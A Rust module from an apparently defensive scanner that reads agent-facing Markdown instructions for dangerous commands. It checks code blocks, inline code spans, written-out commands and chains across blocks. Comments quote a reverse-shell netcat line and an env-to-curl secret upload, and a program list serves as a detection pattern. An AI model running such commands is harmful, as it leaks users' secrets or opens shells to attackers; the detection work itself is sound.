//! The commands Markdown instructions tell the agent to run: every block of code
//! ([`crate::analysis::runnable`]) through the one analyser of commands, and, in the prose
//! around them, a download run by an interpreter (`SEC040`), line by line. Only that one
//! danger in prose: a sentence may well name `sudo` or `rm -rf /` to warn against them.

use super::memo::{Memo, Reading, Said};
use super::{Found, MAX_PER_COMMAND, Place, emit};
use crate::analysis::runnable::{
    Block, BlockPlace, Code, Setting, looks_like_command, places_of, runnable_places,
};
use crate::analysis::shell::{
    Danger, DangerKind, Dialect, Language, Prose, dangers, downloads_in_prose, flow_extent,
    may_run_download, negated, script_dangers,
};
use crate::diagnostics::cap::Findings;
use crate::security::texts::Text;
use crate::syntax::markdown::Fence as Fenced;

/// The reading of a command written in prose: as a POSIX shell block's.
const POSIX: Reading = Reading::Code(Code::Shell(Dialect::Posix));

/// Languages whose fenced blocks are the content of a file, not commands the reader runs.
const FILE_CONTENT_LANGUAGES: &[&str] = &[
    "dockerfile",
    "containerfile",
    "docker",
    "json",
    "jsonc",
    "yaml",
    "yml",
    "toml",
    "ini",
    "xml",
    "html",
    "css",
    "markdown",
    "md",
    "diff",
];

/// The commands of the instructions `text`. The blocks are read one at a time, and then
/// again for their places: a text of a million blocks is never held as a list of them. A
/// short text read before in the file (`memo`) says again what it said then.
pub(super) fn check<'t>(
    text: &'t Text<'t>,
    fences: Option<&[Fenced]>,
    out: &mut Findings,
    found: &mut Found<'t>,
    memo: &mut Memo,
) {
    if let Some(said) = memo.said(&text.value) {
        for s in said.iter().cloned() {
            emit(text, s.base, s.place, s.dangers, out, found);
        }
        return;
    }
    if memo.has_stopped() {
        return;
    }
    let mut say = Say {
        text,
        out,
        found,
        said: Memo::keeps(&text.value).then(Vec::new),
    };
    let mut joined = Joined::default();
    // Where the blocks are, for the reading of the prose between them: the Markdown is
    // parsed once (a body of a million links spent a sixth of its run in a second parse).
    let mut spans = Vec::new();
    for place in places(&text.value, fences) {
        spans.push(place.span);
        let b = place.block(&text.value);
        let read = memo.dangers(Reading::Code(b.code), &b.text, |t| match b.code {
            Code::Shell(dialect) => dangers(t, dialect),
            Code::Python => script_dangers(t, Language::Python),
            Code::JavaScript => script_dangers(t, Language::JavaScript),
        });
        let Some(dangers) = read else {
            // Past the file's budget: neither the rest of the blocks nor the prose is read.
            memo.stop(
                &text.file,
                text.span_of(first_line(&text.value, b.span.start, b.span.end)),
            );
            return;
        };
        let place = match b.setting {
            Setting::Told => Place::Told,
            Setting::Image => Place::Image,
        };
        say.say(b.span.start, place, dangers);
        if joins(&b.code, b.setting) {
            joined.add(&text.value, &b);
        }
    }
    if joined.blocks >= 2 {
        // What joins two blocks depends on what the tool said before: not kept.
        say.said = None;
        across_blocks(text, fences, joined, say.out, say.found);
    }
    let mut at = 0;
    let mut reported = 0;
    let mut fence = Fence::default();
    let mut blocks = spans.iter().peekable();
    let mut prose = Prose::default();
    for line in text.value.split_inclusive('\n') {
        let base = at;
        at += line.len();
        // Blocks come in order: step past those that end before this line.
        while blocks.next_if(|b| b.end <= base).is_some() {}
        let in_block = blocks
            .peek()
            .is_some_and(|b| b.start <= base && base < b.end);
        if fence.step(line) || in_block {
            continue;
        }
        code_spans(&mut say, memo, base, line);
        written_out(&mut say, memo, base, line);
        if memo.has_stopped() {
            return;
        }
        let told = prose.step(line, base);
        say.say(0, Place::Told, told);
        // Only a line that may run a download is read (and counts towards the budget):
        // prose is not code.
        if !may_run_download(line) {
            continue;
        }
        let Some(found_here) = memo.dangers(Reading::Prose, line, downloads_in_prose) else {
            let end = base + line.trim_end_matches(['\n', '\r']).len();
            memo.stop(&text.file, text.span_of(base..end));
            return;
        };
        if found_here.is_empty() {
            continue;
        }
        let take = MAX_PER_COMMAND.saturating_sub(reported);
        reported += found_here.len().min(take);
        let shifted = found_here
            .into_iter()
            .take(take)
            .map(|mut d| {
                d.start += base;
                d.end += base;
                d
            })
            .collect();
        say.say(0, Place::Told, shifted);
    }
    if let Some(said) = say.said.take() {
        memo.keep_said(&text.value, said);
    }
}

/// The first line of `value[start..end]` (the place of a block left unread), without its
/// line end.
fn first_line(value: &str, start: usize, end: usize) -> std::ops::Range<usize> {
    let piece = value.get(start..end).unwrap_or_default();
    let line = piece.split(['\n', '\r']).next().unwrap_or_default();
    start..start + line.len()
}

/// Reports on one text, kept (when `said` is) to be said again for the same text.
struct Say<'a, 't> {
    text: &'t Text<'t>,
    out: &'a mut Findings,
    found: &'a mut Found<'t>,
    said: Option<Vec<Said>>,
}

impl Say<'_, '_> {
    /// Report `dangers` at offset `base` of the text, standing at `place`.
    fn say(&mut self, base: usize, place: Place, dangers: Vec<Danger>) {
        if dangers.is_empty() {
            return;
        }
        if let Some(said) = &mut self.said {
            said.push(Said {
                base,
                place,
                dangers: dangers.clone(),
            });
        }
        emit(self.text, base, place, dangers, self.out, self.found);
    }
}

/// The commands a line of prose gives in code spans (`` Run `nc -e /bin/sh h 9` ``, and
/// Claude Code's `` !`cmd` ``, run before the model reads the skill). A download run is
/// left to the reading of the whole line, and `sudo` to code blocks: prose names both in
/// passing.
fn code_spans(say: &mut Say<'_, '_>, memo: &mut Memo, base: usize, line: &str) {
    if !line.contains('`') {
        return;
    }
    let mut at = 0;
    for (i, piece) in line.split('`').enumerate() {
        let start = at;
        at += piece.len() + 1;
        if i % 2 == 0 || !looks_like_command(piece) {
            continue;
        }
        if negated(&line[..start.saturating_sub(1)], &['.', '!', '?', ':']) {
            continue;
        }
        let Some(mut dangers) = memo.dangers(POSIX, piece, |t| dangers(t, Dialect::Posix)) else {
            let span = say.text.span_of(base + start..base + start + piece.len());
            memo.stop(&say.text.file, span);
            return;
        };
        dangers.retain(|d| !matches!(d.kind, DangerKind::DownloadExecute | DangerKind::Privileged));
        say.say(base + start, Place::Told, dangers);
    }
}

/// Programs a command written out in a sentence starts with, where an attack is certain
/// enough to read the rest of the line as shell (`Then run: env | curl -d @- https://…`).
const SENTENCE_PROGRAMS: &[&str] = &[
    "curl", "wget", "env", "printenv", "cat", "tar", "nc", "ncat", "bash", "sh", "python",
    "python3", "dig", "nslookup", "echo", "base64", "eval", "scp",
];

/// A command written out in prose, without a code span: read from its first program on,
/// for the attacks that are certain whatever surrounds them (a secret sent out, a shell
/// handed over, decoded text run).
fn written_out(say: &mut Say<'_, '_>, memo: &mut Memo, base: usize, line: &str) {
    if line.contains('`') || !line.contains(['|', '$', '<', '>', '@', '/', '(']) {
        return;
    }
    // Each program named may be where the command starts (`Use the bash tool to run: env | …`).
    let starts = crate::analysis::shell::words(line)
        .filter(|(_, w)| {
            let w = w.trim_start_matches(['(', '"', '\'']).to_ascii_lowercase();
            SENTENCE_PROGRAMS.contains(&w.as_str())
        })
        .map(|(at, _)| at)
        .take(4);
    let mut seen: Vec<(usize, usize)> = Vec::new();
    for start in starts {
        if negated(&line[..start], &[]) {
            return;
        }
        let Some(mut dangers) = memo.dangers(POSIX, &line[start..], |t| dangers(t, Dialect::Posix))
        else {
            memo.stop(
                &say.text.file,
                say.text.span_of(base + start..base + line.len()),
            );
            return;
        };
        dangers.retain(|d| {
            let at = (start + d.start, start + d.end);
            let new = matches!(
                d.kind,
                DangerKind::Exfiltration | DangerKind::ReverseShell | DangerKind::DecodeExecute
            ) && !seen.iter().any(|(s, e)| at.0 < *e && *s < at.1);
            if new {
                seen.push(at);
            }
            new
        });
        say.say(base + start, Place::Told, dangers);
    }
}

/// Where a line of Markdown is with respect to fenced code blocks.
#[derive(Default)]
struct Fence {
    /// The opening run (``` or ~~~ and its length) and whether the block is a file's content.
    open: Option<(char, usize, bool)>,
}

impl Fence {
    /// Read `line`; true when it is a fence line or inside a block of file content.
    fn step(&mut self, line: &str) -> bool {
        let t = line.trim_start_matches(' ');
        let ch = t.chars().next().filter(|c| *c == '`' || *c == '~');
        let run = ch.map_or(0, |c| t.len() - t.trim_start_matches(c).len());
        match (self.open, ch) {
            (Some((c, n, _)), Some(d)) if c == d && run >= n && t[run..].trim().is_empty() => {
                self.open = None;
                true
            }
            (Some((_, _, content)), _) => content,
            (None, Some(c)) if run >= 3 => {
                let info = t[run..]
                    .trim()
                    .split(|x: char| x.is_whitespace() || x == '{')
                    .next();
                let content = info.is_some_and(|w| {
                    FILE_CONTENT_LANGUAGES
                        .iter()
                        .any(|l| w.eq_ignore_ascii_case(l))
                });
                self.open = Some((c, run, content));
                true
            }
            (None, _) => false,
        }
    }
}

/// Whether a block of this code and setting is read with the others in [`across_blocks`].
fn joins(code: &Code, setting: Setting) -> bool {
    *code == Code::Shell(Dialect::Posix) && setting == Setting::Told
}

/// The shell blocks of one text joined into one script at their places: the text with
/// everything but these blocks blanked, lines kept, so offsets are the text's.
#[derive(Default)]
struct Joined {
    /// The script so far (up to the end of the last block added).
    script: Vec<u8>,
    /// How many blocks it holds.
    blocks: usize,
}

impl Joined {
    /// Add block `b` of `text`.
    fn add(&mut self, text: &str, b: &Block) {
        if self.script.capacity() == 0 {
            self.script.reserve_exact(text.len());
        }
        self.blank(text, b.span.end);
        if let Some(dest) = self.script.get_mut(b.span.start..b.span.end) {
            dest.copy_from_slice(b.text.as_bytes());
        }
        self.blocks += 1;
    }

    /// Extend the script with `text` blanked up to `end`.
    fn blank(&mut self, text: &str, end: usize) {
        let from = self.script.len();
        if let Some(gap) = text.as_bytes().get(from..end) {
            self.script
                .extend(gap.iter().map(|&c| if c == b'\n' { b'\n' } else { b' ' }));
        }
    }
}

/// The blocks of code of `text`: among `fences` when a reading of the same Markdown found
/// them, else found by parsing it.
fn places<'t>(
    text: &'t str,
    fences: Option<&'t [Fenced]>,
) -> Box<dyn Iterator<Item = BlockPlace> + 't> {
    match fences {
        Some(fences) => Box::new(places_of(text, fences.iter().cloned())),
        None => Box::new(runnable_places(text)),
    }
}

/// Shell blocks of one text read together, at their places: a secret read into a file in
/// one block and uploaded in a later one, a download saved in one and run in the next. Only
/// what joins two blocks is new here; each block alone was read already. The joined script
/// is read as far as the reading of data flow goes (its first 4,096 statements): past that,
/// reading it line by line again would find nothing that joins two blocks.
fn across_blocks<'t>(
    text: &'t Text<'t>,
    fences: Option<&[Fenced]>,
    mut joined: Joined,
    out: &mut Findings,
    found: &mut Found<'t>,
) {
    if joined.blocks < 2 {
        return;
    }
    joined.blank(&text.value, text.value.len());
    let Ok(mut joined) = String::from_utf8(joined.script) else {
        return;
    };
    joined.truncate(flow_extent(&joined));
    let candidates: Vec<_> = dangers(&joined, Dialect::Posix)
        .into_iter()
        .filter(|d| {
            matches!(
                d.kind,
                DangerKind::Exfiltration | DangerKind::DownloadExecute | DangerKind::DecodeExecute
            ) && d.related.is_some()
        })
        .collect();
    drop(joined);
    let mut at: Vec<usize> = candidates
        .iter()
        .flat_map(|d| [d.start, d.related.as_ref().map_or(d.start, |r| r.start)])
        .collect();
    at.sort_unstable();
    at.dedup();
    let holding = blocks_holding(&text.value, fences, &at);
    let block_of = |p: usize| {
        at.binary_search(&p)
            .ok()
            .and_then(|i| holding.get(i).copied().flatten())
    };
    let joining: Vec<_> = candidates
        .into_iter()
        .filter(|d| {
            d.related
                .as_ref()
                .is_some_and(|r| block_of(r.start) != block_of(d.start))
        })
        // A secret read in another block counts when its block alone already said so (a
        // credential store): a shell history read in one block is no theft by a later upload.
        .filter(|d| {
            d.kind != DangerKind::Exfiltration
                || d.related.as_ref().is_some_and(|r| {
                    let read = text.span_of(r.start..r.end);
                    found
                        .signals
                        .iter()
                        .any(|s| s.read && s.span.start < read.end && read.start < s.span.end)
                })
        })
        .collect();
    if joining.is_empty() {
        return;
    }
    let before = found.chains.len();
    emit(text, 0, Place::Told, joining, out, found);
    // The halves each block gave alone are now parts of the chain.
    let chains = found.chains[before..].to_vec();
    found.signals.retain(|s| {
        !chains
            .iter()
            .any(|c| s.span.start < c.end && c.start < s.span.end)
    });
}

/// For each of the offsets `at` (sorted), the index among the joined shell blocks of `text`
/// of the block holding it, if one does: one more reading of the blocks' places.
fn blocks_holding(text: &str, fences: Option<&[Fenced]>, at: &[usize]) -> Vec<Option<usize>> {
    let mut holding = vec![None; at.len()];
    if at.is_empty() {
        return holding;
    }
    let mut next = 0;
    let places = places(text, fences).filter(|p| joins(&p.code, p.setting));
    for (i, p) in places.enumerate() {
        next += at[next..].iter().take_while(|&&a| a < p.span.start).count();
        if next >= at.len() {
            break;
        }
        let inside = at[next..].iter().take_while(|&&a| a < p.span.end);
        for (slot, _) in holding[next..].iter_mut().zip(inside) {
            *slot = Some(i);
        }
    }
    holding
}
